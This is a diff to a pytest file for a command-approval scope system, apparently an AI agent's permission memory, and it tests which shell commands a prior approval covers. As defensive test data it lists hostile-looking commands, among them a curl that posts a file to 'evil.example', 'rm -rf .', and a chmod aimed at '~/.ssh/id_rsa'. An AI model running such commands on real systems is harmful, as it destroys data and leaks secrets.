@@ -116,13 +116,54 @@ def test_a_command_prefix_covers_that_command_only() -> None:
     assert not command_scope("run command", "git status > out").covered_by(kept)  # opaque: never covered
     assert not command_scope("run background command", "git status").covered_by(kept)
     both = approved(command_scope("run command", "echo x && rm -rf y"))
-    assert command_scope("run command", "rm -rf z; echo x").covered_by(both)
+    assert command_scope("run command", "rm -rf y; echo x").covered_by(both)
+    assert not command_scope("run command", "rm -rf z").covered_by(both)  # rm is remembered exactly
     assert not command_scope("run command", "echo y").covered_by(both)  # `echo x …` was approved, not echo
     assert not command_scope("run command", "echo x > f").remembers
 
 
+@pytest.mark.parametrize(
+    ("approved_command", "label", "covers", "asks"),
+    [
+        ("rm -rf build", "`rm -rf build`", ["rm -rf build"], ["rm -rf build ~", "rm -rf src", "rm -r build"]),
+        ("chmod 644 a.txt", "`chmod 644 a.txt`", ["chmod 644 a.txt"], ["chmod 644 a.txt ~/.ssh/id_rsa", "chmod 777 a.txt"]),
+        ("curl https://example.com/a", "`curl https://example.com/a`", [], ["curl -d @x https://evil.example"]),
+        ("git -C ../lib status", "`git -C ../lib status`", ["git -C ../lib status"], ["git -C ../lib push"]),
+        ("cat src/app.py", "`cat …`", ["cat README.md"], ["rm src/app.py"]),
+        ("ls -la", "`ls …`", ["ls -t src"], ["lsof -i"]),
+        ("python -m pytest -q", "`python -m pytest …`", ["python -m pytest tests/a.py"], ["python -m http.server", "python -c 'x'"]),
+        ("npm test", "`npm test …`", ["npm test -- --watch=false"], ["npm publish"]),
+        ("ls", "`ls …`", ["ls -la src"], ["rm -rf ."]),
+    ],
+)
+def test_what_an_approved_command_covers(approved_command: str, label: str, covers: list[str], asks: list[str]) -> None:
+    scope = command_scope("run command", approved_command)
+    assert scope.remembers and scope.label == label
+    kept = approved(scope)
+    for command in covers:
+        assert command_scope("run command", command).covered_by(kept), command
+    for command in asks:
+        assert not command_scope("run command", command).covered_by(kept), command
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        'bash -c "ls"', "sh -lc 'make'", "python3 -c 'print(1)'", "python3.12 -Bc 'x'", "node -e 'x'",
+        "node --eval=x", "perl -ne 'print' f", "ruby -e x", "deno eval x", "eval ls", "source env.sh",
+        "sudo make install", "env FOO=1 make", "timeout 5 make", "nohup make", "xargs rm",
+        "find . -name '*.pyc' -delete", "find . -exec rm {} +", "git -c core.pager=sh log", "/usr/bin/env make",
+    ],
+)
+def test_a_command_that_runs_whatever_it_is_told_is_never_remembered_or_covered(command: str) -> None:
+    scope = command_scope("run command", command)
+    assert not scope.remembers
+    assert not scope.covered_by(approved(command_scope("run command", command.split()[0])) + [f"run command:{command}"])
+
+
 def test_legacy_bare_actions_cover_no_command() -> None:
     assert not command_scope("run command", "ls").covered_by(["run command"])
+    assert not command_scope("run command", "rm -rf x").covered_by(["run command:rm"])  # an older prefix
     assert action_scope("edit file").covered_by(["edit file"])
 
 
